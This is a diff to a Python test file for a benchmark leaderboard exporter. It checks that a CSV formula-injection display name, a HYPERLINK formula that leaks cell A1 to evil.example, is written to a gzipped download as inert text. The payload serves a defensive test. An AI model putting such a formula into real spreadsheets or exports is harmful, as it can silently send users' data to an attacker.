@@ -7,6 +7,7 @@ clipboard (OSC 52) or clears the screen when printed. Each sink escapes (:mod:`t
 from __future__ import annotations
 
 import csv
+import gzip
 import io
 import unicodedata
 from pathlib import Path
@@ -68,17 +69,26 @@ def _row(**values):
 
 def test_a_formula_display_name_is_text_in_the_leaderboard_csv(tmp_path):
     name = '=HYPERLINK("http://evil.example/?leak="&A1,"Naive")'
+    lb = SimpleNamespace(
+        dataset="d",
+        protocol="rolling_origin",
+        unit="series",
+        demand_class="all",
+        metric="mase",
+        rows=[_row(rank=1, model_id="m", display_name=name, mean=-0.25)],
+    )
     page = Page(
-        path="b/x/all-mase.md",
+        path="b/x/leaderboard-all.md",
         template="leaderboard.md.j2",
         title="t",
-        context={"lb": SimpleNamespace(rows=[_row(rank=1, model_id="m", display_name=name, mean=-0.25)])},
+        context={"panels": {"mase": {"lb": lb, "csv_all": "downloads/b-v0001-leaderboards.csv.gz"}}},
     )
     (tmp_path / "b" / "x").mkdir(parents=True)
-    (written,) = write_downloads(SimpleNamespace(names=[]), [page], tmp_path)
-    rows = list(csv.DictReader(io.StringIO(written.read_text(encoding="utf-8"))))
+    redirect, written = write_downloads(SimpleNamespace(names=[]), [page], tmp_path)
+    assert written.name == "b-v0001-leaderboards.csv.gz" and redirect.name == "all-mase.html"
+    rows = list(csv.DictReader(io.StringIO(gzip.decompress(written.read_bytes()).decode("utf-8"))))
     assert rows[0]["display_name"] == "'" + name
-    assert rows[0]["mean"] == "-0.25"
+    assert rows[0]["mean"] == "-0.25" and rows[0]["metric"] == "mase"
 
 
 def test_the_runner_prints_no_escape_sequence_from_a_config_path(tmp_path, capsys):
